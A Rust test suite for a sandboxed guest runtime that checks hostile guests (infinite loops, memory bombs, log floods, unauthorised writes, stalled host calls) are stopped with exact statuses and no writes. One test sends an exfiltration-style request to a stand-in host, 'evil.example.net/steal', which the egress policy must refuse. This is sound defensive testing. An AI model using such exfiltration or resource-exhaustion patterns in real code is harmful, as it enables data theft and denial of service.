//! Hostile guests. Each run must end with the exact status, return no writes, and leave the
//! runtime serving other runs.

use std::sync::Arc;

use runtime::{
    EgressPolicy, Error, Grants, RunOutcome, RunRequest, RunStatus, Services, WorkspaceScopes,
};
use serde_json::json;

use crate::support::{
    FakeWorkspace, echo, guest_error, invoke, probe, refused_as_unapproved, services_with,
    shared_runtime,
};

async fn run_probe(request: RunRequest) -> RunOutcome {
    shared_runtime().run(&probe(), request).await.unwrap()
}

fn assert_nothing_written(outcome: &RunOutcome) {
    assert!(
        outcome.writes.is_empty(),
        "writes came back: {:?}",
        outcome.writes
    );
    assert!(outcome.kv_writes.is_empty());
    assert!(outcome.output.is_none());
}

/// The engine still runs well-behaved guests afterwards.
async fn assert_runtime_healthy() {
    let outcome = shared_runtime()
        .run(
            &echo(),
            invoke(json!({"still": "alive"}), Services::default()),
        )
        .await
        .unwrap();
    assert_eq!(outcome.record.status, RunStatus::Ok);
}

#[tokio::test]
async fn an_infinite_loop_runs_out_of_fuel() {
    let mut request = invoke(json!({"op": "spin"}), Services::default());
    request.limits.fuel_max = 20_000_000;
    let outcome = run_probe(request).await;
    assert_eq!(outcome.record.status, RunStatus::FuelExhausted);
    assert_eq!(outcome.record.fuel_used, 20_000_000);
    assert_nothing_written(&outcome);
    assert_runtime_healthy().await;
}

#[tokio::test]
async fn an_infinite_loop_with_fuel_to_spare_times_out() {
    let mut request = invoke(json!({"op": "spin"}), Services::default());
    request.limits.fuel_max = u64::MAX / 2;
    request.limits.wall_ms_max = 200;
    let outcome = run_probe(request).await;
    assert_eq!(outcome.record.status, RunStatus::Timeout);
    assert!(outcome.record.duration_us >= 200_000);
    assert_nothing_written(&outcome);
    assert_runtime_healthy().await;
}

#[tokio::test]
async fn a_memory_bomb_hits_the_memory_limit() {
    let mut request = invoke(json!({"op": "allocate"}), Services::default());
    request.limits.memory_bytes_max = 16 << 20;
    let outcome = run_probe(request).await;
    assert_eq!(outcome.record.status, RunStatus::MemoryLimit);
    assert!(outcome.record.memory_peak_bytes <= 16 << 20);
    assert!(outcome.record.memory_peak_bytes > 8 << 20);
    assert_nothing_written(&outcome);
    assert_runtime_healthy().await;
}

#[tokio::test]
async fn deep_recursion_is_a_stack_overflow_trap() {
    let outcome = run_probe(invoke(json!({"op": "recurse"}), Services::default())).await;
    assert_eq!(
        outcome.record.status,
        RunStatus::Trap("stack overflow".into())
    );
    assert_eq!(outcome.record.status.code(), "trap");
    assert_nothing_written(&outcome);
    assert_runtime_healthy().await;
}

#[tokio::test]
async fn a_huge_output_hits_the_output_limit() {
    let mut request = invoke(
        json!({"op": "big-output", "bytes": 2 << 20}),
        Services::default(),
    );
    request.limits.output_bytes_max = 1 << 20;
    let outcome = run_probe(request).await;
    assert_eq!(outcome.record.status, RunStatus::OutputLimit);
    assert_nothing_written(&outcome);
}

#[tokio::test]
async fn a_flood_of_logs_hits_the_output_limit() {
    let mut request = invoke(json!({"op": "log-spam", "count": 500}), Services::default());
    request.limits.output_bytes_max = 1_000;
    let outcome = run_probe(request).await;
    assert_eq!(outcome.record.status, RunStatus::OutputLimit);
    let kept: usize = outcome
        .record
        .logs
        .iter()
        .map(|entry| entry.message.len())
        .sum();
    assert!(kept < 1_000);
}

#[tokio::test]
async fn thousands_of_host_calls_hit_the_host_call_limit() {
    let mut request = invoke(
        json!({"op": "log-spam", "count": 5_000}),
        Services::default(),
    );
    request.limits.host_calls_max = 1_000;
    let outcome = run_probe(request).await;
    assert_eq!(outcome.record.status, RunStatus::HostCallLimit);
    assert_eq!(outcome.record.host_calls, 1_001);
    assert_eq!(outcome.record.logs.len(), 1_000);
    assert_nothing_written(&outcome);
}

#[tokio::test]
async fn a_request_to_an_undeclared_host_is_refused_and_recorded() {
    let mut request = invoke(
        json!({"op": "http", "url": "https://evil.example.net/steal?data=1"}),
        Services::default(),
    );
    request.grants.http = Some(EgressPolicy::parse(&["https://api.example.com"]).unwrap());
    let outcome = run_probe(request).await;
    let message = guest_error(&outcome);
    assert!(message.starts_with("forbidden"), "{message}");
    assert_eq!(
        refused_as_unapproved(&outcome).url,
        "https://evil.example.net/steal"
    );
    assert_nothing_written(&outcome);
}

#[tokio::test]
async fn reading_a_page_the_host_denies_is_not_found() {
    let (workspace, secret_page) = FakeWorkspace::default().with_page("Salaries", true);
    let workspace = Arc::new(workspace);
    let outcome = run_probe(invoke(
        json!({"op": "get-page", "page_id": secret_page.to_string()}),
        services_with(workspace.clone()),
    ))
    .await;
    let message = guest_error(&outcome);
    assert!(message.starts_with("not-found"), "{message}");
    assert!(!message.contains("Salaries"));
    assert_eq!(
        *workspace.audited_denials.lock().unwrap(),
        vec![secret_page]
    );
    assert_nothing_written(&outcome);
}

#[tokio::test]
async fn writing_without_the_insert_scope_is_refused() {
    let mut request = invoke(
        json!({"op": "create-and-append", "parent_id": uuid::Uuid::now_v7().to_string()}),
        Services::default(),
    );
    request.grants.workspace = Some(WorkspaceScopes::READ);
    let outcome = run_probe(request).await;
    let message = guest_error(&outcome);
    assert!(message.starts_with("forbidden"), "{message}");
    assert_eq!(outcome.record.writes_staged, 0);
    assert_eq!(outcome.record.denials[0].operation, "create-page");
    assert!(outcome.record.denials[0].reason.contains("insert content"));
    assert_nothing_written(&outcome);
}

#[tokio::test]
async fn a_component_importing_the_workspace_without_the_grant_does_not_start() {
    let mut request = invoke(json!({"op": "echo"}), Services::default());
    request.grants = Grants {
        workspace: None,
        ..Grants::all()
    };
    let error = shared_runtime().run(&probe(), request).await.unwrap_err();
    assert!(
        matches!(&error, Error::CapabilityNotGranted { interface } if interface == "trellis:integration/workspace"),
        "{error}"
    );
    assert_eq!(error.code(), "capability_not_granted");
}

#[tokio::test]
async fn writing_then_trapping_returns_no_writes() {
    let parent = uuid::Uuid::now_v7().to_string();
    let outcome = run_probe(invoke(
        json!({"op": "create-and-append", "parent_id": parent, "then": "trap"}),
        Services::default(),
    ))
    .await;
    let RunStatus::Trap(message) = &outcome.record.status else {
        panic!("expected a trap, got {:?}", outcome.record.status);
    };
    assert!(message.contains("unreachable"), "{message}");
    assert_eq!(outcome.record.writes_staged, 3);
    assert_nothing_written(&outcome);
    // The panic message reached the logs through stderr.
    assert!(
        outcome
            .record
            .logs
            .iter()
            .any(|entry| entry.message.contains("failing after staging writes"))
    );
}

#[tokio::test]
async fn writing_then_returning_an_error_returns_no_writes() {
    let parent = uuid::Uuid::now_v7().to_string();
    let outcome = run_probe(invoke(
        json!({"op": "create-and-append", "parent_id": parent, "then": "fail"}),
        Services::default(),
    ))
    .await;
    assert_eq!(
        outcome.record.status,
        RunStatus::Error("failing after staging writes".into())
    );
    assert_eq!(outcome.record.writes_staged, 3);
    assert_nothing_written(&outcome);
}

/// On a single-threaded executor, well-behaved runs still complete while a hostile one spins:
/// the spinning guest yields at every epoch tick.
#[tokio::test(flavor = "current_thread")]
async fn other_runs_complete_while_a_hostile_run_spins() {
    let mut hostile = invoke(json!({"op": "spin"}), Services::default());
    hostile.limits.fuel_max = u64::MAX / 2;
    hostile.limits.wall_ms_max = 3_000;
    let spinner =
        tokio::spawn(async move { shared_runtime().run(&probe(), hostile).await.unwrap() });
    // Let the spinner start.
    tokio::task::yield_now().await;
    let echo = echo();
    for index in 0..20 {
        let outcome = shared_runtime()
            .run(&echo, invoke(json!({"index": index}), Services::default()))
            .await
            .unwrap();
        assert_eq!(outcome.record.status, RunStatus::Ok);
    }
    assert!(
        !spinner.is_finished(),
        "the hostile run ended before the others completed"
    );
    let outcome = spinner.await.unwrap();
    assert_eq!(outcome.record.status, RunStatus::Timeout);
}

/// A workspace whose reads never finish, to show that waiting on the host is bounded too.
struct StalledWorkspace;

#[async_trait::async_trait]
impl runtime::WorkspaceHost for StalledWorkspace {
    async fn search(
        &self,
        _: &runtime::RunContext,
        _: &runtime::SearchQuery,
    ) -> Result<runtime::SearchResults, runtime::HostError> {
        std::future::pending().await
    }

    async fn get_page(
        &self,
        _: &runtime::RunContext,
        _: uuid::Uuid,
        _: bool,
    ) -> Result<runtime::Page, runtime::HostError> {
        std::future::pending().await
    }

    async fn list_block_children(
        &self,
        _: &runtime::RunContext,
        _: uuid::Uuid,
        _: Option<&str>,
        _: u32,
    ) -> Result<runtime::BlockChildren, runtime::HostError> {
        std::future::pending().await
    }

    async fn query_data_source(
        &self,
        _: &runtime::RunContext,
        _: &runtime::DataSourceQuery,
    ) -> Result<runtime::QueryResults, runtime::HostError> {
        std::future::pending().await
    }
}

#[tokio::test]
async fn waiting_on_a_stalled_host_call_times_out() {
    let mut request = invoke(
        json!({"op": "get-page", "page_id": uuid::Uuid::now_v7().to_string()}),
        Services {
            workspace: Arc::new(StalledWorkspace),
            ..Services::default()
        },
    );
    request.limits.wall_ms_max = 100;
    let outcome = run_probe(request).await;
    assert_eq!(outcome.record.status, RunStatus::Timeout);
    assert_eq!(outcome.record.host_calls, 1);
    assert_nothing_written(&outcome);
}

#[tokio::test]
async fn a_full_instance_pool_refuses_new_runs_as_busy() {
    let runtime = runtime::Runtime::new(runtime::RuntimeConfig {
        concurrent_runs_max: 1,
        ..crate::support::test_config()
    })
    .unwrap();
    let component = runtime.load(crate::support::probe_bytes()).unwrap();
    let mut hostile = invoke(json!({"op": "spin"}), Services::default());
    hostile.limits.fuel_max = u64::MAX / 2;
    hostile.limits.wall_ms_max = 2_000;
    let spinner = {
        let runtime = runtime.clone();
        let component = component.clone();
        tokio::spawn(async move { runtime.run(&component, hostile).await.unwrap() })
    };
    // Until the spinner has instantiated, a run may still get the slot; after that, it must not.
    let mut refusal = None;
    for _ in 0..1_000 {
        tokio::task::yield_now().await;
        let attempt = runtime
            .run(
                &component,
                invoke(json!({"op": "echo"}), Services::default()),
            )
            .await;
        if let Err(error) = attempt {
            refusal = Some(error);
            break;
        }
    }
    let error = refusal.expect("a run was refused while the spinner held the slot");
    assert_eq!(error.code(), "busy", "{error}");
    assert_eq!(spinner.await.unwrap().record.status, RunStatus::Timeout);
    // The slot is free again.
    let outcome = runtime
        .run(
            &component,
            invoke(json!({"op": "echo"}), Services::default()),
        )
        .await
        .unwrap();
    assert_eq!(outcome.record.status, RunStatus::Ok);
}
